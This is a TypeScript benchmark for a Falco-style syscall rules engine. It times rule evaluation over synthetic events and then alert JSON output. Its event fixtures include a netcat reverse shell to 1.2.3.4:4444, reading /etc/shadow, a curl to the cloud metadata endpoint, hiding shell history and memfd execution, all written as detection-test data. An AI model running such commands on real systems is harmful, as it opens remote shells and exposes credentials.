/**
 * Rule evaluation micro-benchmark: a synthetic but realistic event mix (execve, openat,
 * connect, ...) evaluated against the upstream Falco rules (stable alone, then stable +
 * incubating + sandbox), with and without the event-type index, on one core; then alerts
 * built and written as the agent does it (the rule's output fields and message, as
 * Agent.raise builds them, then outputs/format.ts's JSON line).
 *
 * It times compiled conditions on precomputed field values: the rules library alone, not
 * the agent's cost per event (bench/macro/agent.ts measures that).
 *
 *   node dist/bench/micro/rules-eval.js          (BENCH_QUICK=1 for a short run)
 *
 * The Falco rules files come from the compat directory (test/helpers/compat.ts); without them
 * the benchmark says so and skips.
 *
 * Target (issue 4): >= 1 M events/s for the stable file with the index (median of REPS runs);
 * the full run exits 1 when it is missed, BENCH_QUICK=1 only prints.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Alert, Priority } from "../../src/engine/alert.js";
import { alertJson } from "../../src/outputs/format.js";
import type { FieldRecord, FieldValue } from "../../src/rules/fields.js";
import { loadRules, type LoadResult } from "../../src/rules/loader.js";
import { RuleSet, type CompiledRule } from "../../src/rules/ruleset.js";
import { compatDirSetting, compatSkipReason } from "../../test/helpers/compat.js";
import { RECORDS } from "../../test/helpers/rules.js";

const QUICK = process.env["BENCH_QUICK"] === "1";
const N = QUICK ? 200_000 : 2_000_000;
const REPS = QUICK ? 3 : 5;
const TARGET = 1e6;

/**
 * One event's precomputed values as a plain record, read through the syscall schema over
 * records (each field reads its key): the rules library's cost, not the producers'.
 */
function record(values: Record<string, FieldValue>): FieldRecord {
  for (const k of Object.keys(values)) {
    const m = /^([^[]+)(?:\[(.*)\])?$/.exec(k);
    const r = RECORDS.resolve(m?.[1] ?? k, m?.[2]);
    if (!r.ok) throw new Error(`bench: ${r.message}`);
  }
  return values;
}

interface Ev {
  type: string;
  reader: FieldRecord;
  weight: number;
}

const PROC = (
  name: string,
  exe: string,
  args: string,
  parent: string,
  more: Record<string, FieldValue> = {},
) => ({
  "proc.name": name,
  "proc.exe": exe,
  "proc.exepath": exe,
  "proc.args": args,
  "proc.cmdline": `${name} ${args}`.trim(),
  "proc.pname": parent,
  "proc.pcmdline": parent,
  "proc.pexe": `/usr/bin/${parent}`,
  "proc.pexepath": `/usr/bin/${parent}`,
  "proc.aname": [parent, "containerd-shim", "systemd"],
  "proc.aname[1]": parent,
  "proc.aname[2]": "containerd-shim",
  "proc.aname[3]": "systemd",
  "proc.pid": 4242,
  "proc.vpid": 42,
  "proc.ppid": 4000,
  "proc.tty": 0,
  "proc.cwd": "/app",
  "proc.duration": 5_000_000_000n,
  "proc.sname": parent,
  "proc.env": "PATH=/usr/bin HOME=/root",
  "proc.is_exe_upper_layer": false,
  "proc.is_exe_from_memfd": false,
  "proc.is_vpgid_leader": false,
  "user.name": "app",
  "user.uid": 1000,
  "user.loginuid": -1,
  "user.loginname": "",
  "group.gid": 1000,
  "group.name": "app",
  "thread.cap_effective": "",
  "thread.cap_permitted": "CAP_CHOWN CAP_NET_BIND_SERVICE",
  "container.id": "3ad7b26ded6d",
  "container.name": "web",
  "container.image.repository": "docker.io/library/nginx",
  "container.privileged": false,
  "container.start_ts": 1767268000000000000n,
  "k8s.ns.name": "default",
  "k8s.pod.name": "web-1",
  "evt.num": 1234,
  "evt.res": "SUCCESS",
  "evt.rawres": 0,
  "evt.hostname": "node-1",
  "evt.time": 1767268800123456789n,
  ...more,
});

const FILE = (name: string, write: boolean, more: Record<string, FieldValue> = {}) => ({
  "fd.num": 5,
  "fd.type": "file",
  "fd.typechar": "f",
  "fd.name": name,
  "fd.nameraw": name,
  "fd.directory": name.slice(0, name.lastIndexOf("/")) || "/",
  "fd.filename": name.slice(name.lastIndexOf("/") + 1),
  "evt.is_open_read": !write,
  "evt.is_open_write": write,
  "evt.is_open_exec": false,
  "evt.arg[flags]": write ? "O_WRONLY|O_CREAT|O_TRUNC" : "O_RDONLY|O_CLOEXEC",
  "evt.arg[name]": name,
  ...more,
});

const NET = (sip: string, sport: number, more: Record<string, FieldValue> = {}) => ({
  "fd.num": 7,
  "fd.type": "ipv4",
  "fd.typechar": "4",
  "fd.name": `10.0.0.5:40000->${sip}:${sport}`,
  "fd.l4proto": "tcp",
  "fd.sockfamily": "ip",
  "fd.sip": sip,
  "fd.cip": "10.0.0.5",
  "fd.ip": sip,
  "fd.net": sip,
  "fd.snet": sip,
  "fd.rip": sip,
  "fd.lip": "10.0.0.5",
  "fd.sport": sport,
  "fd.rport": sport,
  "fd.lport": 40000,
  "fd.cport": 40000,
  "fd.connected": true,
  "fd.name_changed": true,
  "fd.sip.name": "example.com",
  ...more,
});

function events(): Ev[] {
  const e = (type: string, weight: number, values: Record<string, FieldValue>): Ev => ({
    type,
    weight,
    reader: record(values),
  });
  return [
    // opens dominate real workloads
    e("openat", 20, {
      ...PROC("nginx", "/usr/sbin/nginx", "-g daemon off;", "containerd-shim"),
      ...FILE("/usr/share/nginx/html/index.html", false),
    }),
    e("openat", 10, {
      ...PROC("java", "/usr/bin/java", "-jar app.jar", "sh"),
      ...FILE("/usr/lib/jvm/lib/modules", false),
    }),
    e("openat", 6, {
      ...PROC("python3", "/usr/bin/python3", "app.py", "bash"),
      ...FILE("/tmp/cache/x.json", true),
    }),
    e("openat", 4, {
      ...PROC("node", "/usr/bin/node", "server.js", "npm"),
      ...FILE("/proc/self/status", false),
    }),
    e("openat", 1, { ...PROC("cat", "/usr/bin/cat", "/etc/shadow", "bash"), ...FILE("/etc/shadow", false) }),
    e("openat", 2, {
      ...PROC("nginx", "/usr/sbin/nginx", "", "nginx"),
      ...FILE("/var/log/nginx/access.log", true),
    }),
    e("open", 2, { ...PROC("sshd", "/usr/sbin/sshd", "-D", "systemd"), ...FILE("/etc/passwd", false) }),
    e("openat2", 1, {
      ...PROC("containerd", "/usr/bin/containerd", "", "systemd"),
      ...FILE("/run/containerd/x", true),
    }),
    e("execve", 4, { ...PROC("ls", "/usr/bin/ls", "-la", "bash") }),
    e("execve", 2, { ...PROC("sh", "/bin/sh", "-c ls", "java") }),
    e("execve", 1, { ...PROC("bash", "/bin/bash", "", "runc", { "proc.tty": 34816 }) }),
    e("execve", 1, { ...PROC("curl", "/usr/bin/curl", "http://169.254.169.254/", "sh") }),
    e("execveat", 1, { ...PROC("x", "/dev/shm/x", "", "sh", { "proc.is_exe_from_memfd": true }) }),
    e("connect", 6, { ...PROC("java", "/usr/bin/java", "-jar app.jar", "sh"), ...NET("10.96.0.1", 443) }),
    e("connect", 3, {
      ...PROC("curl", "/usr/bin/curl", "https://example.com", "bash"),
      ...NET("93.184.216.34", 443),
    }),
    e("connect", 1, {
      ...PROC("nc", "/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", "bash"),
      ...NET("1.2.3.4", 4444),
    }),
    e("accept4", 3, {
      ...PROC("nginx", "/usr/sbin/nginx", "", "nginx"),
      ...NET("10.0.0.5", 80, { "fd.cip": "10.1.1.1" }),
    }),
    e("socket", 2, { ...PROC("java", "/usr/bin/java", "", "sh"), "evt.arg[domain]": "AF_INET" }),
    e("close", 10, {
      ...PROC("nginx", "/usr/sbin/nginx", "", "nginx"),
      ...FILE("/usr/share/nginx/html/index.html", false),
    }),
    e("dup2", 1, { ...PROC("bash", "/bin/bash", "", "nc"), ...NET("1.2.3.4", 4444), "evt.rawres": 1 }),
    e("unlinkat", 2, {
      ...PROC("rm", "/usr/bin/rm", "-f /tmp/x", "bash"),
      "evt.arg[name]": "/tmp/x",
      "evt.arg[path]": "/tmp/x",
    }),
    e("renameat2", 1, {
      ...PROC("vim", "/usr/bin/vim", "f", "bash"),
      "evt.arg[oldpath]": "/root/.bash_history",
      "evt.arg[newpath]": "/tmp/h",
    }),
    e("setuid", 1, { ...PROC("sudo", "/usr/bin/sudo", "-i", "bash"), "evt.arg[uid]": "0" }),
    e("ptrace", 1, { ...PROC("gdb", "/usr/bin/gdb", "-p 1", "bash"), "evt.arg[request]": "PTRACE_ATTACH" }),
    e("mkdirat", 1, {
      ...PROC("mkdir", "/usr/bin/mkdir", "-p /var/lib/x", "sh"),
      "evt.arg[path]": "/var/lib/x",
    }),
  ];
}

function mix(evs: Ev[]): Ev[] {
  const out: Ev[] = [];
  for (const e of evs) for (let i = 0; i < e.weight; i++) out.push(e);
  // deterministic shuffle
  let seed = 42;
  for (let i = out.length - 1; i > 0; i--) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    const j = seed % (i + 1);
    [out[i], out[j]] = [out[j] as Ev, out[i] as Ev];
  }
  return out;
}

/** Events/s over N events, the median of REPS runs. */
function run(r: LoadResult, stream: Ev[], useIndex: boolean): { rate: number; matches: number } {
  const rs = useIndex ? r.ruleset : new RuleSet(r.ruleset.rules, { useIndex: false });
  const L = stream.length;
  let matches = 0;
  for (let i = 0; i < Math.min(N / 10, 50_000); i++) {
    const e = stream[i % L] as Ev;
    matches += rs.match(e.reader, e.type).length; // warm-up
  }
  const rates: number[] = [];
  for (let rep = 0; rep < REPS; rep++) {
    matches = 0;
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < N; i++) {
      const e = stream[i % L] as Ev;
      matches += rs.match(e.reader, e.type).length;
    }
    const s = Number(process.hrtime.bigint() - t0) / 1e9;
    rates.push(N / s);
  }
  rates.sort((a, b) => a - b);
  return { rate: rates[Math.floor(rates.length / 2)] ?? 0, matches };
}

function fmt(n: number): string {
  return n >= 1e6 ? `${(n / 1e6).toFixed(2)} M` : `${(n / 1e3).toFixed(0)} k`;
}

/** The alert the agent raises for `rule` on `e` (what Agent.raise builds). */
function agentAlert(rule: CompiledRule, e: Ev, timeNs: bigint, hostname: string): Alert {
  return {
    timeNs,
    rule: rule.name,
    priority: rule.priority as Priority,
    source: rule.source,
    hostname,
    message: rule.output.render(e.reader, e.type),
    outputFields: rule.output.values(e.reader, e.type, { "evt.time": timeNs }) as Alert["outputFields"],
    tags: rule.tags,
  };
}

function main(): void {
  const names = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"];
  const skip = compatSkipReason(...names.map((n) => `falco-rules/${n}`));
  if (skip !== null) {
    console.log(`rules-eval: SKIP (${skip})`);
    return;
  }
  const compat = (n: string): string => join(compatDirSetting(), "falco-rules", n);
  const stream = mix(events());
  const sets: [string, string[]][] = [
    ["stable", ["falco_rules.yaml"]],
    [
      "stable+incubating+sandbox",
      ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"],
    ],
  ];
  console.log(
    `rules-eval: ${N} events per run, mix of ${stream.length} events over ${new Set(stream.map((e) => e.type)).size} event types${QUICK ? " (BENCH_QUICK)" : ""}`,
  );
  let alertsFrom: LoadResult | undefined;
  let stableIndexed = NaN;
  for (const [label, files] of sets) {
    const t0 = performance.now();
    const r = loadRules(
      files.map((f) => ({ name: f, text: readFileSync(compat(f), "utf8") })),
      { fields: RECORDS },
    );
    const loadMs = performance.now() - t0;
    if (r.errors > 0) throw new Error(`${label}: ${r.errors} errors loading rules`);
    const idx = run(r, stream, true);
    const noIdx = run(r, stream, false);
    if (label === "stable") stableIndexed = idx.rate;
    console.log(
      `${label.padEnd(26)} rules=${String(r.ruleset.rules.length).padStart(3)} load+compile=${loadMs.toFixed(0)}ms  ` +
        `indexed: ${fmt(idx.rate)} ev/s  no index: ${fmt(noIdx.rate)} ev/s  (x${(idx.rate / noIdx.rate).toFixed(1)})  ` +
        `matches/run=${idx.matches}`,
    );
    alertsFrom = r;
  }

  const met = stableIndexed >= TARGET;
  console.log(
    `target: stable rules with the index at ${fmt(stableIndexed)} ev/s (target >= ${fmt(TARGET)} ev/s, median of ${REPS}): ${met ? "MET" : "NOT MET"}`,
  );
  if (!met && !QUICK) process.exitCode = 1;

  // alerts as the agent writes them
  if (alertsFrom === undefined) return;
  const pairs: { rule: CompiledRule; e: Ev }[] = [];
  for (const e of stream) {
    for (const rule of alertsFrom.ruleset.rules)
      if (rule.eventTypes.neg || rule.eventTypes.names.has(e.type)) {
        if (rule.condition(e.reader, e.type)) pairs.push({ rule, e });
      }
  }
  if (pairs.length === 0) {
    // render every rule's output against some event of its types
    for (const rule of alertsFrom.ruleset.rules) pairs.push({ rule, e: stream[0] as Ev });
  }
  const M = QUICK ? 20_000 : 300_000;
  const timeNs = 1767268800123456789n;
  let bytes = 0;
  let t0 = process.hrtime.bigint();
  for (let i = 0; i < M; i++) {
    const p = pairs[i % pairs.length] as { rule: CompiledRule; e: Ev };
    bytes += p.rule.output.render(p.e.reader, p.e.type).length;
  }
  const textRate = M / (Number(process.hrtime.bigint() - t0) / 1e9);
  t0 = process.hrtime.bigint();
  for (let i = 0; i < M; i++) {
    const p = pairs[i % pairs.length] as { rule: CompiledRule; e: Ev };
    bytes += alertJson(agentAlert(p.rule, p.e, timeNs, "node-1")).length;
  }
  const jsonRate = M / (Number(process.hrtime.bigint() - t0) / 1e9);
  console.log(
    `outputs (${pairs.length} distinct alerts): message render ${fmt(textRate)} alerts/s; JSON alert as the agent writes it ` +
      `(Agent.raise's message + output_fields, then outputs/format.ts alertJson) ${fmt(jsonRate)} alerts/s`,
  );
  if (bytes === 0) console.log("");
}

main();
